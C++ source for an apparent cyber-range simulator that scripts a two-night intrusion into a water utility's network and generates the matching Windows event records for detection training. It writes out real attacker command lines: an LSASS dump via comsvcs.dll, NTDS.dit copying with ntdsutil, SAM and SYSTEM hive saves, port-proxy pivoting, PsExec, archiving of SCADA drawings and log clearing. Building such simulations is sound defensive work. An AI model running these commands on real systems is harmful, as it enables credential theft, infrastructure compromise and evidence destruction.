#include "range/intrusion.h"

#include <fmt/format.h>

#include "range/powershell.h"
#include "range/remote_desktop.h"

namespace landwarden::range {
namespace {

constexpr std::int64_t kMinutesPerDay = 24 * 60;
constexpr std::string_view kVpnAddress = "10.20.90.47";
constexpr std::string_view kVpnStation = "DESKTOP-7Q2M1K";
constexpr std::string_view kSystem32 = "C:\\Windows\\System32\\";

/// Hands on one keyboard: what is typed into one console, one line after the other.
class Hands {
 public:
  Hands(Machine& machine, Session session, Process console, Time now, std::vector<Step>& steps)
      : machine_(machine),
        session_(std::move(session)),
        console_(std::move(console)),
        now_(now),
        steps_(steps) {}

  [[nodiscard]] Time now() const { return now_; }
  [[nodiscard]] const Session& session() const { return session_; }
  [[nodiscard]] const Process& console() const { return console_; }
  void wait(std::int64_t seconds) { now_ = later(now_, seconds * 1'000 + machine_.dice().between(0, 999)); }

  /// A program of System32 and the line that was typed. `what` makes it a step.
  Process type(std::string_view program, std::string line, std::string what, std::int64_t for_ms = 400) {
    wait(machine_.dice().between(4, 31));
    const Process process = machine_.run(now_, console_, fmt::format("{}{}", kSystem32, program),
                                         std::move(line), session_, for_ms);
    if (!what.empty()) note(creation(), process.command_line, std::move(what));
    return process;
  }
  /// net.exe hands groups and users on to net1.exe.
  void type_net(std::string_view rest, std::string what) {
    const Process net = type("net.exe", fmt::format("net {}", rest), std::move(what), 300);
    machine_.run(later(now_, 20), net, "C:\\Windows\\System32\\net1.exe",
                 fmt::format("C:\\Windows\\system32\\net1 {}", rest), session_, 250);
  }
  void note(const EventKind& kind, std::string telling, std::string what) {
    note_on(machine_, kind, std::move(telling), std::move(what));
  }
  /// The record is on another host than the keyboard.
  void note_on(const Machine& there, const EventKind& kind, std::string telling, std::string what) {
    steps_.push_back(
        {now_, std::string(there.host().name), kind.channel, kind.id, std::move(telling), std::move(what)});
  }
  /// The record of a new process on this host.
  [[nodiscard]] const EventKind& creation() const {
    return machine_.host().sysmon ? kind::kSysmonProcess : kind::kProcessCreated;
  }

 private:
  Machine& machine_;
  Session session_;
  Process console_;
  Time now_;
  std::vector<Step>& steps_;
};

/// A stolen desktop: the session, and a console opened in it.
struct Entry {
  RemoteDesktop desktop;
  Process console;
};

Entry enter(World& world, Time time, std::vector<Step>& steps) {
  Machine& jump = world.machine("EVW-JUMP01");
  Entry entry{open_remote_desktop(world, time, account("vendor.pumps"), kVpnAddress, kVpnStation, jump, true),
              {}};
  steps.push_back(
      {later(time, 2'400), "EVW-JUMP01", kSessionChannel, 21, std::string(kVpnAddress),
       "the vendor's VPN account opens a remote desktop on the jump server in the middle of the night"});
  entry.console = jump.run_console(later(time, 48'000), entry.desktop.shell, "C:\\Windows\\System32\\cmd.exe",
                                   "\"C:\\Windows\\system32\\cmd.exe\" ", entry.desktop.session, 5'400'000);
  return entry;
}

struct Line {
  std::string_view program;
  std::string_view line;
  std::string_view what;
};
constexpr Line kDiscovery[] = {
    {"whoami.exe", "whoami /all", "who am I"},
    {"HOSTNAME.EXE", "hostname", ""},
    {"quser.exe", "quser", "who else is on"},
    {"ipconfig.exe", "ipconfig /all", "network configuration"},
    {"systeminfo.exe", "systeminfo", "the system"},
    {"NETSTAT.EXE", "netstat -ano", "connections"},
    {"tasklist.exe", "tasklist /v", "processes"},
    {"nltest.exe", "nltest /dclist:", "domain controllers"},
    {"nltest.exe", "nltest /domain_trusts", "trusts"},
    {"wbem\\WMIC.exe", "wmic volume list brief", "volumes"},
    {"wbem\\WMIC.exe", "wmic product list brief", "installed products"},
    {"wbem\\WMIC.exe", "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename",
     "disks"},
    {"reg.exe", "reg query hkcu\\software\\SimonTatham\\PuTTY\\Sessions", "saved PuTTY sessions"},
    {"reg.exe", "reg query hklm\\software\\OpenSSH", "OpenSSH keys"},
    {"netsh.exe", "netsh interface firewall show all", "firewall"},
    {"netsh.exe", "netsh interface portproxy show v4tov4", "port forwarding"},
};

void discover(Hands& hands, Machine& machine) {
  for (const Line& line : kDiscovery) {
    hands.type(line.program, std::string(line.line),
               line.what.empty() ? "" : fmt::format("discovery: {}", line.what), 700);
  }
  hands.type_net("group \"Domain Admins\" /dom", "discovery: domain administrators");
  hands.type_net("localgroup administrators", "discovery: local administrators");
  hands.type_net("user vendor.pumps /dom", "");
  hands.type_net("start", "");
  const Process curl =
      hands.type("curl.exe", "curl www.ip-api.com", "discovery: own address on the internet", 900);
  machine.resolve(later(hands.now(), 90), curl, "www.ip-api.com", "203.0.113.95");
  machine.connect(later(hands.now(), 130), curl, "203.0.113.95", "www.ip-api.com", 80);
}

constexpr std::string_view kLogonQuery =
    "Get-EventLog security -instanceid 4624 -after (Get-Date).AddDays(-30) | fl * | Out-File "
    "'C:\\users\\public\\documents\\user.dat'";
constexpr std::string_view kLogonQueryCommands[] = {"Get-Date", "Get-EventLog", "Format-List", "Out-File"};

void read_logons(Hands& hands, Machine& machine) {
  hands.type("wevtutil.exe", "wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624)]] /c:40",
             "discovery: who logs on here, out of the Security log", 2'100);
  hands.wait(21);
  const Process shell = run_powershell(machine, hands.now(), hands.console(), hands.session(),
                                       fmt::format("powershell -c \"{}\"", kLogonQuery),
                                       Script{"", kLogonQuery, kLogonQueryCommands}, 31'000);
  hands.note(kind::kScriptBlock, "-instanceid 4624", "discovery: a month of logons into a file in Public");
  machine.create_file(later(hands.now(), 2'400), shell, "C:\\Users\\Public\\Documents\\user.dat");
  hands.note(kind::kSysmonFile, "C:\\Users\\Public\\Documents\\user.dat", "staging in C:\\Users\\Public");
}

/// The administrator's password was in the VPN appliance; here it is used for the first time.
/// `kept`: the Security log of that night is still there.
Hands become_administrator(Machine& jump, const Hands& vendor, std::vector<Step>& steps, bool kept) {
  const Time time = later(vendor.now(), 95'000);
  const Account& admin = account("adm-itops");
  const Process runas = jump.start(time, vendor.console(), "C:\\Windows\\System32\\runas.exe",
                                   "runas /user:ELDERVALLEY\\adm-itops cmd", vendor.session());
  const Account& vendor_account = *vendor.session().account;
  jump.log(kind::kExplicitCredentials, later(time, 9'000),
           {vendor_account.sid(), std::string(vendor_account.name), std::string(vendor_account.domain),
            hex(vendor.session().logon_id), jump.random_guid().to_string(), std::string(admin.name),
            std::string(admin.domain), jump.random_guid().to_string(), "localhost", "localhost",
            hex(runas.pid), runas.image, "::1", "0"});
  if (kept) {
    steps.push_back({later(time, 9'000), "EVW-JUMP01", kSecurityChannel, 4648, "runas.exe",
                     "the administrator's password is used from the vendor's session"});
  }
  Session session = jump.log_on(later(time, 9'010), admin, LogonType::interactive, "::1");
  session.terminal = vendor.session().terminal;
  const Process console = jump.run_console(later(time, 9'200), runas, "C:\\Windows\\System32\\cmd.exe", "cmd",
                                           session, 4'200'000);
  jump.end(later(time, 9'400), runas);
  return {jump, session, console, later(time, 20'000), steps};
}

void dump_lsass(Hands& hands, Machine& machine) {
  const Process& lsass = machine.resident(Resident::lsass);
  const Process dumper = hands.type(
      "rundll32.exe",
      fmt::format(
          "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\hp.dmp full",
          lsass.pid),
      "LSASS memory through comsvcs.dll", 2'700);
  machine.load(later(hands.now(), 60), dumper, "C:\\Windows\\System32\\comsvcs.dll");
  machine.load(later(hands.now(), 90), dumper, "C:\\Windows\\System32\\dbgcore.dll");
  machine.access(later(hands.now(), 180), dumper, lsass, "0x1fffff",
                 "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:"
                 "\\Windows\\System32\\comsvcs.dll+31a5b|"
                 "C:\\Windows\\System32\\rundll32.exe+3b8d");
  hands.note(kind::kSysmonProcessAccess, "comsvcs.dll+31a5b",
             "LSASS memory through comsvcs.dll: the access itself");
  machine.create_file(later(hands.now(), 900), dumper, "C:\\Windows\\Temp\\hp.dmp");
}

void forward_port(Hands& hands, Machine& machine) {
  const Process netsh = hands.type(
      "netsh.exe",
      "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.20.1.20 "
      "connectport=8443 protocol=tcp",
      "port forwarding on the jump server", 350);
  machine.set_value(later(hands.now(), 140), netsh,
                    "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9999",
                    "10.20.1.20/8443");
  hands.note(kind::kSysmonRegistryValue, "PortProxy\\v4tov4\\tcp\\0.0.0.0/9999",
             "port forwarding: the registry value");
}

/// wmic /node:HOST process call create "…": here the command, there a process under WmiPrvSE.
Process call_remotely(World& world, Hands& hands, Machine& from, Machine& to, std::string_view command,
                      std::string_view image, std::string what, std::int64_t for_ms) {
  const Process wmic = hands.type(
      "wbem\\WMIC.exe", fmt::format("wmic /node:{} process call create \"{}\"", to.host().name, command),
      std::move(what), 3'000);
  from.connect(later(hands.now(), 300), wmic, to.host().address, to.host().fqdn(), 135);
  const Session session =
      world.remote_session(later(hands.now(), 250), account("adm-itops"), from.host(), to);
  const Process& provider = to.resident(Resident::wmi);
  to.log(kind::kWmiProvider, later(hands.now(), 500),
         {"CIMWin32", "0x0", "wmiprvse.exe", std::to_string(provider.pid),
          "%systemroot%\\system32\\wbem\\cimwin32.dll"});
  const Process started = to.run_console(later(hands.now(), 800), provider, std::string(image),
                                         std::string(command), session, for_ms);
  to.log_off(later(hands.now(), for_ms + 4'000), session);
  return started;
}

void reach_controller(World& world, Hands& hands, Machine& jump) {
  Machine& controller = world.domain_controller();
  const std::string first = "cmd.exe /c whoami > C:\\Windows\\Temp\\tmp.log";
  const Process shell = call_remotely(world, hands, jump, controller, first, "C:\\Windows\\System32\\cmd.exe",
                                      "lateral movement: WMI to the domain controller", 900);
  controller.run(later(hands.now(), 850), shell, "C:\\Windows\\System32\\whoami.exe", "whoami", shell.session,
                 90);
  controller.create_file(later(hands.now(), 880), shell, "C:\\Windows\\Temp\\tmp.log");
  hands.note_on(controller, kind::kSysmonProcess, first, "lateral movement: a process under WmiPrvSE.exe");
  hands.wait(3);
}

void collect_drawings(World& world, Hands& hands, Machine& jump) {
  constexpr std::string_view kFiles[] = {
      "SCADA\\network-overview.vsdx",        "SCADA\\booster-3-panel.pdf",  "SCADA\\plc-addresses.xlsx",
      "Drawings\\high-lift-single-line.dwg", "Drawings\\intake-valves.dwg", "SCADA\\radio-plan.pdf"};
  hands.type("cmd.exe", "cmd.exe /C dir /S \\\\EVW-FS01\\Engineering >> c:\\windows\\temp\\hp.tmp",
             "the file server is searched", 5'000);
  world.use_share(later(hands.now(), 200), account("adm-itops"), jump.host(), "Engineering",
                  "D:\\Engineering", kFiles);
  hands.wait(110);
  const Process archiver =
      jump.run(hands.now(), hands.console(), "C:\\Program Files\\7-Zip\\7z.exe",
               "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pPumps2026! -v50m "
               "C:\\Users\\Public\\Documents\\hist.7z \\\\EVW-FS01\\Engineering\\SCADA\\*",
               hands.session(), 64'000);
  hands.note(hands.creation(), "hist.7z",
             "collection: drawings of the control system in a split archive with a password");
  jump.create_file(later(hands.now(), 800), archiver, "C:\\Users\\Public\\Documents\\hist.7z.001");
}

void first_night(World& world, Time time, std::vector<Step>& steps) {
  Machine& jump = world.machine("EVW-JUMP01");
  const Entry entry = enter(world, time, steps);
  Hands vendor(jump, entry.desktop.session, entry.console, later(time, 61'000), steps);
  discover(vendor, jump);
  Hands admin = become_administrator(jump, vendor, steps, true);
  read_logons(admin, jump);
  dump_lsass(admin, jump);
  forward_port(admin, jump);
  reach_controller(world, admin, jump);
  collect_drawings(world, admin, jump);
  admin.wait(600);
  disconnect_remote_desktop(jump, admin.now(), entry.desktop.session);
}

/// What the directory's database engine says while ntdsutil makes its copy.
void log_database_copy(Machine& controller, Hands& hands, const Process& ntdsutil) {
  const Time time = hands.now();
  const Civil civil = to_civil(time);
  const std::string snapshot =
      fmt::format("C:\\$SNAP_{:04}{:02}{:02}{:02}{:02}_VOLUMEC$\\Windows\\NTDS\\ntds.dit", civil.year,
                  civil.month, civil.day, civil.hour, civil.minute);
  const std::string copy = "C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit";
  const std::string who = "ntdsutil";
  const std::string id = fmt::format("{},D,50", ntdsutil.pid);
  const std::string timing =
      "[1] 0.000003 +J(0), [2] 0.000011 +J(0), [3] 0.000009 +J(0), [4] 0.015644 +J(0).";
  const Process& lsass = controller.resident(Resident::lsass);
  controller.service_state(later(time, 900), "Volume Shadow Copy", "VSS", true);
  controller.service_state(later(time, 1'200), "Microsoft Software Shadow Copy Provider", "swprv", true);
  for (const auto* kind : {&kind::kEsentShadowStarting, &kind::kEsentShadowFreeze,
                           &kind::kEsentShadowFreezeEnd, &kind::kEsentShadowDone}) {
    controller.log_by(lsass, *kind, later(time, 2'000),
                      {"lsass", fmt::format("{},D,0", lsass.pid), "", "13"});
  }
  controller.log_by(ntdsutil, kind::kEsentMoved, later(time, 3'100),
                    {who, id, "", "C:\\Windows\\NTDS\\ntds.dit",
                     "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit"});
  controller.log_by(ntdsutil, kind::kEsentAttached, later(time, 3'400),
                    {who, id, "", "1", snapshot, "0", timing, "1 0", ""});
  controller.log_by(ntdsutil, kind::kEsentCreated, later(time, 3'900),
                    {who, id, "", "2", copy, "0", timing, ""});
  controller.create_file(later(time, 3'910), ntdsutil, copy);
  controller.log_by(ntdsutil, kind::kEsentDetached, later(time, 24'000),
                    {who, id, "", "2", copy, "0", timing, "0 0"});
  controller.log_by(ntdsutil, kind::kEsentDetached, later(time, 24'100),
                    {who, id, "", "1", snapshot, "0", timing, "0 0"});
  for (const std::string_view hive : {"SYSTEM", "SECURITY"}) {
    controller.create_file(later(time, 24'400), ntdsutil,
                           fmt::format("C:\\Windows\\Temp\\pro\\registry\\{}", hive));
  }
  hands.note(kind::kEsentMoved, "HarddiskVolumeShadowCopy3",
             "NTDS.dit: the engine opens the copy in the shadow");
  hands.note(kind::kEsentAttached, snapshot, "NTDS.dit: attached from the snapshot");
  hands.note(kind::kEsentCreated, copy, "NTDS.dit: a new database in C:\\Windows\\Temp");
  hands.note(kind::kEsentDetached, copy, "NTDS.dit: the copy is complete");
}

void copy_directory(Hands& hands, Machine& controller) {
  hands.type("vssadmin.exe",
             "vssadmin create shadow /for=C:", "a shadow copy of the controller's system volume", 8'000);
  hands.wait(40);
  const std::string command = "ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pro\" q q";
  std::string escaped;
  for (const char letter : command) escaped += letter == '"' ? std::string("\\\"") : std::string(1, letter);
  hands.type("wbem\\WMIC.exe", fmt::format("wmic process call create \"{}\"", escaped),
             "ntdsutil is started through WMI", 1'200);
  hands.wait(1);
  const Process ntdsutil =
      controller.run_console(hands.now(), controller.resident(Resident::wmi),
                             "C:\\Windows\\System32\\ntdsutil.exe", command, hands.session(), 26'000);
  hands.note(kind::kSysmonProcess, command, "ntdsutil makes installation media of the whole directory");
  log_database_copy(controller, hands, ntdsutil);
  hands.wait(45);
}

void pack_directory(Hands& hands, Machine& controller) {
  const Process hive = hands.type("reg.exe", "reg save hklm\\system C:\\Windows\\Temp\\sy.dat",
                                  "the SYSTEM hive is saved", 2'000);
  controller.create_file(later(hands.now(), 300), hive, "C:\\Windows\\Temp\\sy.dat");
  const Process sam =
      hands.type("reg.exe", "reg save hklm\\sam C:\\Windows\\Temp\\ss.dat", "the SAM hive is saved", 900);
  controller.create_file(later(hands.now(), 300), sam, "C:\\Windows\\Temp\\ss.dat");
  const Process cabinet =
      hands.type("makecab.exe", "makecab C:\\Windows\\Temp\\sy.dat C:\\Windows\\Temp\\210829-020000.zip",
                 "a cabinet under the name of a backup", 21'000);
  controller.create_file(later(hands.now(), 500), cabinet, "C:\\Windows\\Temp\\210829-020000.zip");
  hands.wait(35);
  const Process archiver =
      controller.run(hands.now(), hands.console(), "C:\\Program Files\\7-Zip\\7z.exe",
                     "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pPumps2026! C:\\Windows\\Temp\\DMBC2C61.tmp "
                     "\"C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit\"",
                     hands.session(), 88'000);
  hands.note(kind::kSysmonProcess, "DMBC2C61.tmp",
             "NTDS.dit is packed with a password under an innocent name");
  controller.create_file(later(hands.now(), 700), archiver, "C:\\Windows\\Temp\\DMBC2C61.tmp");
  hands.wait(100);
}

void carry_off(World& world, Hands& hands, Machine& controller) {
  Machine& jump = world.machine("EVW-JUMP01");
  const Process copy = hands.type(
      "xcopy.exe", "xcopy C:\\Windows\\Temp\\DMBC2C61.tmp \\\\EVW-JUMP01\\C$\\Users\\Public\\Appfile\\ /Y",
      "the archive goes to the jump server", 41'000);
  controller.connect(later(hands.now(), 80), copy, jump.host().address, jump.host().fqdn(), 445);
  jump.create_file(later(hands.now(), 400), jump.resident(Resident::kernel),
                   "C:\\Users\\Public\\Appfile\\DMBC2C61.tmp");
  hands.wait(60);
}

void remove_traces(Hands& hands, Machine& controller) {
  const Process shell = hands.type(
      "cmd.exe",
      "cmd.exe /c rd /S /Q C:\\Windows\\Temp\\pro & del C:\\Windows\\Temp\\sy.dat C:\\Windows\\Temp\\ss.dat "
      "C:\\Windows\\Temp\\210829-020000.zip C:\\Windows\\Temp\\DMBC2C61.tmp",
      "what was staged is deleted", 900);
  for (const std::string_view file :
       {"C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit", "C:\\Windows\\Temp\\sy.dat",
        "C:\\Windows\\Temp\\ss.dat", "C:\\Windows\\Temp\\210829-020000.zip",
        "C:\\Windows\\Temp\\DMBC2C61.tmp"}) {
    controller.delete_file(later(hands.now(), 200), shell, file);
  }
  hands.note(kind::kSysmonFileDelete, "C:\\Windows\\Temp\\DMBC2C61.tmp",
             "what was staged is deleted: the archive");
}

/// From the jump server to the file server, with the administrators' own copy of PsExec.
void run_psexec(World& world, Hands& hands, Machine& jump) {
  Machine& server = world.machine("EVW-FS01");
  const Account& admin = account("adm-itops");
  hands.wait(25);
  const std::string inner =
      "cmd /c \"netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50100 "
      "connectaddress=10.20.50.10 connectport=1433\"";
  const Process psexec =
      jump.run(hands.now(), hands.console(), "C:\\ProgramData\\Tools\\PsExec.exe",
               fmt::format("C:\\ProgramData\\Tools\\PsExec.exe \\\\EVW-FS01 -accepteula -s {}", inner),
               hands.session(), 9'000);
  hands.note(kind::kSysmonProcess, "PsExec.exe \\\\EVW-FS01 -accepteula", "PsExec to the file server");
  jump.set_value(later(hands.now(), 60), psexec,
                 fmt::format("HKU\\{}\\Software\\Sysinternals\\PsExec\\EulaAccepted", admin.sid()),
                 "DWORD (0x00000001)");
  jump.connect(later(hands.now(), 90), psexec, server.host().address, server.host().fqdn(), 445);
  constexpr std::string_view kFiles[] = {"PSEXESVC.exe"};
  world.use_share(later(hands.now(), 200), admin, jump.host(), "ADMIN$", "C:\\Windows", kFiles);
  const Session session = world.remote_session(later(hands.now(), 100), admin, jump.host(), server);
  Process installer = server.resident(Resident::services);
  installer.session = session;
  server.log_by(
      installer, kind::kServiceInstalled, later(hands.now(), 900),
      {"PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "user mode service", "demand start", "LocalSystem"});
  hands.note_on(server, kind::kServiceInstalled, "PSEXESVC", "PsExec installs its service");
  server.service_state(later(hands.now(), 1'000), "PSEXESVC", "PSEXESVC", true);
  const Process service =
      server.start(later(hands.now(), 980), server.resident(Resident::services), "C:\\Windows\\PSEXESVC.exe",
                   "C:\\Windows\\PSEXESVC.exe", server.system());
  const Process shell = server.run(later(hands.now(), 1'400), service, "C:\\Windows\\System32\\cmd.exe",
                                   inner, server.system(), 1'500);
  server.run(later(hands.now(), 1'500), shell, "C:\\Windows\\System32\\netsh.exe",
             "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50100 "
             "connectaddress=10.20.50.10 connectport=1433",
             server.system(), 700);
  hands.note_on(server, kind::kProcessCreated, "listenport=50100",
                "port forwarding on the file server, towards the historian's database");
  server.service_state(later(hands.now(), 9'100), "PSEXESVC", "PSEXESVC", false);
  server.log_off(later(hands.now(), 9'500), session);
}

void clear_log(Hands& hands, Machine& machine, std::string_view channel) {
  const Process tool = hands.type("wevtutil.exe", fmt::format("wevtutil cl {}", channel),
                                  fmt::format("the {} log is cleared", channel), 300);
  const Account& who = *hands.session().account;
  const Time cleared = later(hands.now(), 150);
  machine.cuts.push_back({std::string(channel), cleared, ""});
  const std::string start_key = std::to_string(9'851'624'184'872'960ULL + tool.pid);
  if (channel == kSecurityChannel) {
    machine.log_by(tool, kind::kAuditLogCleared, cleared,
                   {who.sid(), std::string(who.name), std::string(who.domain), hex(hands.session().logon_id),
                    std::to_string(tool.pid), start_key});
    hands.note(kind::kAuditLogCleared, "LogFileCleared", "1102: the Security log was cleared");
  } else {
    machine.log_by(tool, kind::kLogCleared, cleared,
                   {std::string(who.name), std::string(who.domain), std::string(channel), "",
                    std::to_string(tool.pid), start_key});
    hands.note(kind::kLogCleared, "LogFileCleared", fmt::format("104: the {} log was cleared", channel));
  }
}

void second_night(World& world, Time time, std::vector<Step>& steps) {
  Machine& jump = world.machine("EVW-JUMP01");
  Machine& controller = world.domain_controller();
  const Account& admin = account("adm-itops");
  const Entry entry = enter(world, time, steps);
  Hands vendor(jump, entry.desktop.session, entry.console, later(time, 58'000), steps);
  Hands on_jump = become_administrator(jump, vendor, steps, false);

  on_jump.type("mstsc.exe", "mstsc /v:EVW-DC01", "", 3'000'000);
  const Time there = later(on_jump.now(), 18'000);
  const RemoteDesktop desktop =
      open_remote_desktop(world, there, admin, jump.host().address, jump.host().name, controller, false);
  steps.push_back({there, "EVW-DC01", kSecurityChannel, 4624, "10.20.5.10",
                   "remote desktop from the jump server to the domain controller"});
  const Process console =
      controller.run_console(later(there, 31'000), desktop.shell, "C:\\Windows\\System32\\cmd.exe",
                             "\"C:\\Windows\\system32\\cmd.exe\" ", desktop.session, 2'400'000);
  Hands on_controller(controller, desktop.session, console, later(there, 40'000), steps);
  copy_directory(on_controller, controller);
  pack_directory(on_controller, controller);
  carry_off(world, on_controller, controller);
  remove_traces(on_controller, controller);
  on_controller.wait(60);
  close_remote_desktop(controller, on_controller.now(), desktop);

  Hands again(jump, on_jump.session(), on_jump.console(), later(on_controller.now(), 70'000), steps);
  run_psexec(world, again, jump);
  again.wait(150);
  clear_log(again, jump, kSystemChannel);
  clear_log(again, jump, kSecurityChannel);
  again.wait(30);
  close_remote_desktop(jump, again.now(), entry.desktop);
}

}  // namespace

void plan_intrusion(World& world, std::vector<Step>& steps) {
  // The jump server's Security log is kept by the day, which is why the first night is still there to be
  // read.
  const Time archived = minutes_later(world.begin(), 2 * kMinutesPerDay);
  world.machine("EVW-JUMP01")
      .cuts.push_back({kSecurityChannel, archived,
                       fmt::format("Archive-Security-{}-00-00-00-000", sysmon_time(archived).substr(0, 10))});
  world.at(minutes_later(world.begin(), kMinutesPerDay + 2 * 60 + 13),
           [&world, &steps](Time time) { first_night(world, time, steps); });
  world.at(minutes_later(world.begin(), 2 * kMinutesPerDay + 60 + 32),
           [&world, &steps](Time time) { second_night(world, time, steps); });
}

}  // namespace landwarden::range
